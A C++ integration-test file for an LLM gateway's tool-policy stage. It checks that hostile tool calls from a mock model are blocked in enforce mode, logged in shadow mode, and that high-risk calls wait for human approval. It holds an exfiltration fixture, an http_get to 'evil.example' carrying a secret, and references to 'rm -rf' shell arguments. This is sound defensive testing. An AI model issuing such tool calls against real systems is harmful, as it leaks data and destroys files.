// Integration tests of the tool_policy stage: the real `rampart serve` in front of
// `rampart mock-upstream`, whose MOCK_TOOL_CALL_<KIND> cues make the model call tools with
// benign, hostile or high-risk arguments (non-streamed and streamed as tool_call deltas).
// One gateway runs the stage in enforce mode, a second one in shadow mode. The approval round
// trip goes through the admin API and survives a gateway restart while pending.
#include <gtest/gtest.h>
#include <sqlite3.h>
#include <sys/stat.h>

#include <boost/json.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <optional>
#include <string>
#include <utility>

#include "audit/record.h"
#include "common/crypto.h"
#include "gateway_client.h"
#include "process.h"

namespace rampart::testing {
namespace {

namespace json = boost::json;

constexpr const char* kAdminToken = "admin-test-token";
constexpr const char* kAuditKey =
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

std::string ConfigYaml(int upstream_port, const std::string& mode) {
  auto sha = [](const char* k) { return ToHex(Sha256(k)); };
  return std::string(R"(
server:
  listen: 127.0.0.1:0
  admin_listen: 127.0.0.1:0
  threads: 2
  admin_token_env: RAMPART_TEST_ADMIN_TOKEN
  drain_timeout_ms: 5000
stores:
  audit: {path: audit-)") +
         mode + R"(.db, key_file: audit.key}
  approvals: {path: approvals-)" +
         mode + R"(.db}
upstreams:
  - name: mock
    url: http://127.0.0.1:)" +
         std::to_string(upstream_port) + R"(
    first_byte_timeout_ms: 3000
    idle_timeout_ms: 3000
principals:
  - {name: alice, key_sha256: [)" +
         sha("key-alice") + R"(]}
  - {name: bob, key_sha256: [)" +
         sha("key-bob") + R"(]}
routes:
  - name: chat
    kind: openai
    path: /v1
    upstream: mock
    stages:
      - {type: auth}
      - type: tool_policy
        mode: )" +
         mode + R"(
        config:
          allowed_domains: [example.com]
          approval_ttl_s: 600
          tools:
            get_weather:
              schema: {type: object, required: [city], additionalProperties: false,
                       properties: {city: {type: string}}}
            http_get: {}
            run_shell: {}
            send_email: {high_risk: true, scan_arguments: false}
            transfer_funds: {high_risk: true}
          principals:
            alice: [get_weather, http_get, run_shell, send_email, transfer_funds]
            "*": [get_weather]
)";
}

// A chat request that offers the model every tool.
std::string ToolChat(const std::string& content, bool stream = false) {
  json::array tools;
  for (const char* t : {"get_weather", "http_get", "run_shell", "send_email", "transfer_funds"}) {
    tools.push_back(json::object{
        {"type", "function"},
        {"function", json::object{{"name", t}, {"parameters", json::object{{"type", "object"}}}}}});
  }
  json::object o{{"model", "mock-small"},
                 {"messages", json::array{json::object{{"role", "user"}, {"content", content}}}},
                 {"tools", std::move(tools)}};
  if (stream) o["stream"] = true;
  return json::serialize(o);
}

// A streamed response as the client sees it: text, tool calls assembled from their deltas,
// the last finish_reason, the "rampart" extension and the error code of an error event.
struct Streamed {
  std::string text;
  std::map<int64_t, std::pair<std::string, std::string>> calls;  // index -> (name, arguments)
  std::string finish_reason;
  json::value rampart;
  std::string error_code;
  bool done = false;
};

Streamed ParseStream(const std::string& body) {
  Streamed s;
  size_t pos = 0;
  while ((pos = body.find("data: ", pos)) != std::string::npos) {
    size_t end = body.find("\n\n", pos);
    std::string data = body.substr(pos + 6, end - pos - 6);
    pos = end;
    if (data == "[DONE]") {
      s.done = true;
      continue;
    }
    auto v = json::parse(data);
    auto& o = v.as_object();
    if (auto* e = o.if_contains("error")) {
      s.error_code = std::string(e->at("code").as_string());
      continue;
    }
    if (auto* r = o.if_contains("rampart")) s.rampart = *r;
    for (auto& ch : o.at("choices").as_array()) {
      auto& co = ch.as_object();
      if (auto* fr = co.if_contains("finish_reason"); fr != nullptr && fr->is_string())
        s.finish_reason = std::string(fr->as_string());
      auto* d = co.if_contains("delta");
      if (d == nullptr) continue;
      if (auto* c = d->as_object().if_contains("content"); c != nullptr && c->is_string())
        s.text += c->as_string().c_str();
      if (auto* tc = d->as_object().if_contains("tool_calls")) {
        for (auto& piece : tc->as_array()) {
          auto& call = s.calls[piece.at("index").as_int64()];
          if (auto* fn = piece.as_object().if_contains("function")) {
            if (auto* n = fn->as_object().if_contains("name")) call.first += n->as_string().c_str();
            if (auto* a = fn->as_object().if_contains("arguments"))
              call.second += a->as_string().c_str();
          }
        }
      }
    }
  }
  return s;
}

std::map<std::string, std::string> Admin() {
  return {{"Authorization", std::string("Bearer ") + kAdminToken}};
}

struct Gateway {
  Process* proc = nullptr;
  int port = 0;
  int admin_port = 0;
  std::string config;
};

class ToolPolicyGatewayTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    setenv("RAMPART_TEST_ADMIN_TOKEN", kAdminToken, 1);
    dir_ = std::filesystem::temp_directory_path() / ("rampart-tp-" + std::to_string(getpid()));
    std::filesystem::create_directories(dir_);
    std::string key = (dir_ / "audit.key").string();
    std::ofstream(key) << kAuditKey << "\n";
    ::chmod(key.c_str(), 0600);
    mock_ = new Process();
    ASSERT_TRUE(mock_->Start({RAMPART_BINARY, "mock-upstream", "--port", "0"}));
    int mock_port = Process::PortFrom(mock_->ReadLine());
    ASSERT_GT(mock_port, 0);
    for (auto [gw, mode] : {std::pair{&enforce_, "enforce"}, std::pair{&shadow_, "shadow"}}) {
      gw->config = (dir_ / (std::string(mode) + ".yaml")).string();
      std::ofstream(gw->config) << ConfigYaml(mock_port, mode);
      StartGateway(*gw);
    }
  }
  static void StartGateway(Gateway& gw) {
    gw.proc = new Process();
    ASSERT_TRUE(gw.proc->Start(
        {RAMPART_BINARY, "serve", "--config", gw.config, "--rules", RAMPART_RULES_DIR},
        gw.config + ".log"));
    gw.port = Process::PortFrom(gw.proc->ReadLine());
    gw.admin_port = Process::PortFrom(gw.proc->ReadLine());
    ASSERT_GT(gw.port, 0);
    ASSERT_GT(gw.admin_port, 0);
  }
  static void TearDownTestSuite() {
    delete enforce_.proc;
    delete shadow_.proc;
    delete mock_;
    std::filesystem::remove_all(dir_);
  }

  static Response Post(const Gateway& gw, const std::string& body, const std::string& key,
                       const std::string& approval = "") {
    auto h = Key(key);
    if (!approval.empty()) h["X-Rampart-Approval"] = approval;
    return Http(gw.port, "POST", "/v1/chat/completions", body, h);
  }
  static json::value AdminGet(const Gateway& gw, const std::string& target, int want = 200) {
    auto r = Http(gw.admin_port, "GET", target, "", Admin());
    EXPECT_EQ(r.status, want) << r.raw;
    return json::parse(r.body);
  }
  static uint64_t Metric(const Gateway& gw, const std::string& series) {
    auto r = Http(gw.admin_port, "GET", "/metrics", "", Admin());
    size_t p = r.body.find(series + " ");
    return p == std::string::npos ? 0 : std::stoull(r.body.substr(p + series.size() + 1));
  }
  // The audit record whose request_id is `id` in `gw`'s log, or nullopt.
  static std::optional<audit::Record> AuditRecord(const std::string& mode, const std::string& id) {
    std::optional<audit::Record> out;
    sqlite3* db = nullptr;
    std::string path = (dir_ / ("audit-" + mode + ".db")).string();
    EXPECT_EQ(sqlite3_open_v2(path.c_str(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
    sqlite3_stmt* s = nullptr;
    EXPECT_EQ(sqlite3_prepare_v2(db, "SELECT body FROM records ORDER BY seq", -1, &s, nullptr),
              SQLITE_OK);
    while (s != nullptr && sqlite3_step(s) == SQLITE_ROW) {
      auto r = audit::DecodeRecord(reinterpret_cast<const char*>(sqlite3_column_text(s, 0)));
      if (r.ok() && r->request_id == id) out = *r;
    }
    sqlite3_finalize(s);
    sqlite3_close(db);
    return out;
  }

  static inline std::filesystem::path dir_;
  static inline Process* mock_ = nullptr;
  static inline Gateway enforce_;
  static inline Gateway shadow_;
};

TEST_F(ToolPolicyGatewayTest, LegitimateToolCallPassesNonStreamedAndStreamed) {
  auto r = Post(enforce_, ToolChat("weather please MOCK_TOOL_CALL_BENIGN"), "key-alice");
  ASSERT_EQ(r.status, 200) << r.raw;
  auto v = json::parse(r.body);
  EXPECT_EQ(v.at_pointer("/choices/0/finish_reason"), "tool_calls");
  EXPECT_EQ(v.at_pointer("/choices/0/message/tool_calls/0/function/name"), "get_weather");
  EXPECT_EQ(v.at_pointer("/choices/0/message/tool_calls/0/function/arguments"),
            R"({"city":"Paris"})");

  // bob may use get_weather too ("*").
  r = Post(enforce_, ToolChat("MOCK_TOOL_CALL_BENIGN", true), "key-bob");
  ASSERT_EQ(r.status, 200) << r.raw;
  Streamed s = ParseStream(r.body);
  EXPECT_TRUE(s.done);
  EXPECT_EQ(s.error_code, "");
  ASSERT_EQ(s.calls.size(), 1u);
  EXPECT_EQ(s.calls[0].first, "get_weather");
  EXPECT_EQ(s.calls[0].second, R"({"city":"Paris"})");
  EXPECT_EQ(s.finish_reason, "tool_calls");
}

TEST_F(ToolPolicyGatewayTest, HostileArgumentsAreBlockedInEnforceMode) {
  const std::pair<const char*, const char*> kCases[] = {
      {"MOCK_TOOL_CALL_URL", "tool_policy.url"},
      {"MOCK_TOOL_CALL_SHELL", "tool_policy.shell"},
      {"MOCK_TOOL_CALL_SECRET", "tool_policy.sensitive_arguments"},
  };
  for (auto [cue, reason] : kCases) {
    auto r = Post(enforce_, ToolChat(cue), "key-alice");
    EXPECT_EQ(r.status, 502) << cue << r.raw;
    EXPECT_EQ(ErrorCode(r), reason) << cue;
    EXPECT_EQ(r.body.find("evil"), std::string::npos) << cue;

    r = Post(enforce_, ToolChat(cue, true), "key-alice");
    ASSERT_EQ(r.status, 200) << cue << r.raw;
    Streamed s = ParseStream(r.body);
    EXPECT_EQ(s.error_code, reason) << cue << r.body;
    EXPECT_TRUE(s.calls.empty()) << cue << r.body;  // no piece of the call went out
    EXPECT_EQ(r.body.find("evil"), std::string::npos) << cue;
    EXPECT_EQ(r.body.find("rm -rf"), std::string::npos) << cue;
  }
  // A tool bob may not use.
  auto r = Post(enforce_, ToolChat("MOCK_TOOL_CALL_URL"), "key-bob");
  EXPECT_EQ(r.status, 502) << r.raw;
  EXPECT_EQ(ErrorCode(r), "tool_policy.tool_not_allowed");
}

TEST_F(ToolPolicyGatewayTest, ShadowModeOnlyRecords) {
  std::string series = R"(rampart_stage_shadow_blocks_total{route="chat",stage="tool_policy"})";
  uint64_t before = Metric(shadow_, series);
  auto r = Post(shadow_, ToolChat("MOCK_TOOL_CALL_SHELL"), "key-alice");
  ASSERT_EQ(r.status, 200) << r.raw;
  auto v = json::parse(r.body);
  EXPECT_EQ(v.at_pointer("/choices/0/message/tool_calls/0/function/name"), "run_shell");

  r = Post(shadow_, ToolChat("MOCK_TOOL_CALL_URL", true), "key-alice");
  ASSERT_EQ(r.status, 200) << r.raw;
  Streamed s = ParseStream(r.body);
  EXPECT_EQ(s.error_code, "");
  EXPECT_TRUE(s.done);
  ASSERT_EQ(s.calls.size(), 1u);
  EXPECT_EQ(s.calls[0].first, "http_get");
  EXPECT_EQ(s.calls[0].second, R"({"url":"https://evil.example/?d=secret"})");
  EXPECT_EQ(Metric(shadow_, series), before + 2);

  // A high-risk call passes in shadow mode and nothing is held.
  r = Post(shadow_, ToolChat("MOCK_TOOL_CALL_FUNDS", true), "key-alice");
  s = ParseStream(r.body);
  ASSERT_EQ(s.calls.size(), 1u);
  EXPECT_EQ(s.calls[0].first, "transfer_funds");
  EXPECT_TRUE(s.rampart.is_null());
  EXPECT_EQ(Metric(shadow_, series), before + 2);  // a hold is not a block
  auto list = AdminGet(shadow_, "/admin/approvals");
  EXPECT_TRUE(list.at("approvals").as_array().empty()) << list;
}

TEST_F(ToolPolicyGatewayTest, StreamedHighRiskCallIsHeldThenDenied) {
  std::string body = ToolChat("mail the CFO MOCK_TOOL_CALL_EMAIL", true);
  auto r = Post(enforce_, body, "key-alice");
  ASSERT_EQ(r.status, 200) << r.raw;
  Streamed s = ParseStream(r.body);
  EXPECT_TRUE(s.done);
  EXPECT_TRUE(s.calls.empty()) << r.body;
  EXPECT_EQ(s.finish_reason, "stop");
  ASSERT_TRUE(s.rampart.is_object()) << r.body;
  std::string id(s.rampart.at_pointer("/approval/id").as_string());
  EXPECT_EQ(s.rampart.at_pointer("/approval/status"), "pending");
  EXPECT_NE(s.text.find(id), std::string::npos) << s.text;
  EXPECT_EQ(r.body.find("cfo@example.com"), std::string::npos);

  auto d = Http(enforce_.admin_port, "POST", "/admin/approvals/" + id + "/deny",
                R"({"by":"ops","note":"no"})", Admin());
  ASSERT_EQ(d.status, 200) << d.raw;
  EXPECT_EQ(json::parse(d.body).at("status"), "denied");
  auto rec = AuditRecord("enforce", id);
  ASSERT_TRUE(rec.has_value());
  EXPECT_EQ(rec->reason, "tool_policy.approval_denied");
  EXPECT_EQ(rec->verdict, "block");

  r = Post(enforce_, body, "key-alice", id);
  ASSERT_EQ(r.status, 200) << r.raw;
  EXPECT_EQ(r.headers["x-rampart-approval-status"], "denied");
  s = ParseStream(r.body);
  EXPECT_TRUE(s.done);
  EXPECT_TRUE(s.calls.empty());
  EXPECT_NE(s.text.find("denied"), std::string::npos) << s.text;

  auto unknown = Http(enforce_.admin_port, "POST",
                      "/admin/approvals/apr_00000000000000000000000000000000/approve", "", Admin());
  EXPECT_EQ(unknown.status, 404) << unknown.raw;
  auto no_token = Http(enforce_.admin_port, "GET", "/admin/approvals", "");
  EXPECT_EQ(no_token.status, 401) << no_token.raw;
}

TEST_F(ToolPolicyGatewayTest, ApprovalRoundTripSurvivesRestart) {
  std::string body = ToolChat("pay ACME MOCK_TOOL_CALL_FUNDS");
  auto r = Post(enforce_, body, "key-alice");
  ASSERT_EQ(r.status, 200) << r.raw;
  auto v = json::parse(r.body);
  std::string id(v.at_pointer("/rampart/approval/id").as_string());
  EXPECT_EQ(r.headers["x-rampart-approval-id"], id);
  EXPECT_EQ(v.at_pointer("/rampart/approval/status"), "pending");
  EXPECT_EQ(v.at_pointer("/choices/0/finish_reason"), "stop");
  EXPECT_EQ(v.at_pointer("/choices/0/message").as_object().count("tool_calls"), 0u);
  EXPECT_NE(std::string(v.at_pointer("/choices/0/message/content").as_string()).find(id),
            std::string::npos);

  // Still pending; another principal cannot see it.
  r = Post(enforce_, body, "key-alice", id);
  ASSERT_EQ(r.status, 200) << r.raw;
  EXPECT_EQ(json::parse(r.body).at_pointer("/rampart/approval/status"), "pending");
  r = Post(enforce_, body, "key-bob", id);
  EXPECT_EQ(r.status, 404) << r.raw;
  EXPECT_EQ(ErrorCode(r), "tool_policy.approval_not_found");

  // Restart the gateway (SIGTERM, same SQLite file): the approval is still pending.
  enforce_.proc->Signal(SIGTERM);
  EXPECT_EQ(enforce_.proc->Wait(10000), 0);
  delete enforce_.proc;
  StartGateway(enforce_);
  auto list = AdminGet(enforce_, "/admin/approvals?status=pending");
  bool listed = false;
  for (const auto& a : list.at("approvals").as_array())
    listed = listed || a.at("id").as_string() == id;
  EXPECT_TRUE(listed) << list;
  auto one = AdminGet(enforce_, "/admin/approvals/" + id);
  EXPECT_EQ(one.at("principal"), "alice");
  EXPECT_EQ(one.at_pointer("/message/tool_calls/0/function/name"), "transfer_funds");

  auto d = Http(enforce_.admin_port, "POST", "/admin/approvals/" + id + "/approve",
                R"({"by":"ops"})", Admin());
  ASSERT_EQ(d.status, 200) << d.raw;
  EXPECT_EQ(json::parse(d.body).at("decided_by"), "ops");
  d = Http(enforce_.admin_port, "POST", "/admin/approvals/" + id + "/approve", "", Admin());
  EXPECT_EQ(d.status, 409) << d.raw;
  auto rec = AuditRecord("enforce", id);
  ASSERT_TRUE(rec.has_value());
  EXPECT_EQ(rec->reason, "tool_policy.approval_approved");

  // A different request cannot use it; the same one gets the held call, once.
  r = Post(enforce_, ToolChat("pay someone else MOCK_TOOL_CALL_FUNDS"), "key-alice", id);
  EXPECT_EQ(r.status, 409) << r.raw;
  EXPECT_EQ(ErrorCode(r), "tool_policy.approval_mismatch");
  r = Post(enforce_, body, "key-alice", id);
  ASSERT_EQ(r.status, 200) << r.raw;
  EXPECT_EQ(r.headers["x-rampart-approval-status"], "released");
  v = json::parse(r.body);
  EXPECT_EQ(v.at_pointer("/choices/0/finish_reason"), "tool_calls");
  EXPECT_EQ(v.at_pointer("/choices/0/message/tool_calls/0/function/name"), "transfer_funds");
  EXPECT_EQ(v.at_pointer("/choices/0/message/tool_calls/0/function/arguments"),
            R"({"amount":10000,"to":"ACME Ltd"})");
  r = Post(enforce_, body, "key-alice", id);
  EXPECT_EQ(r.status, 409) << r.raw;
  EXPECT_EQ(ErrorCode(r), "tool_policy.approval_used");
  EXPECT_EQ(AdminGet(enforce_, "/admin/approvals/" + id).at("status"), "released");
}

}  // namespace
}  // namespace rampart::testing
